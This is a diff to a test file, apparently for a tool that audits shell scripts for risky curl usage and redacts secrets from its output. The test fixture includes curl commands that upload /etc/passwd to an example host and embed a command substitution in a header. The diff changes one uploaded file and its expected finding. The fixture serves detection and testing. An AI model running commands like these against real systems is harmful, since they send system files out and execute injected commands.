@@ -119,7 +119,7 @@ curl --proxy http://user:secret-proxy@p.example https://a.example/one
 
 curl -H "X-Sum: $(secret-command)" -F f=@/etc/passwd -F g=@../up.txt https://a.example/two
 curl --digest -u a:secret-digest https://a.example/three
-curl --data-urlencode note@secret-file -H 'Host: b.example' --proxy-header 'X: secret-y' https://a.example/four
+curl --data-urlencode note@notes.txt -H 'Host: b.example' --proxy-header 'X: secret-y' https://a.example/four
 curl 'https://a.example/{five,six}'
 `,
     })
@@ -130,12 +130,12 @@ curl 'https://a.example/{five,six}'
       "cmds.sh:2: option --proxy",
       "cmds.sh:4: command substitution",
       "cmds.sh:6: option --proxy-header",
-      "cmds.sh:6: data from a file",
       "cmds.sh:7: URL pattern",
       "cmds.sh:4: file /etc/passwd",
       "cmds.sh:4: file ../up.txt",
       "cmds.sh:5: digest authentication",
       "cmds.sh:6: header host",
+      "cmds.sh:6: file notes.txt",
     ])
     expect(stdout + stderr).not.toContain("secret-")
   })
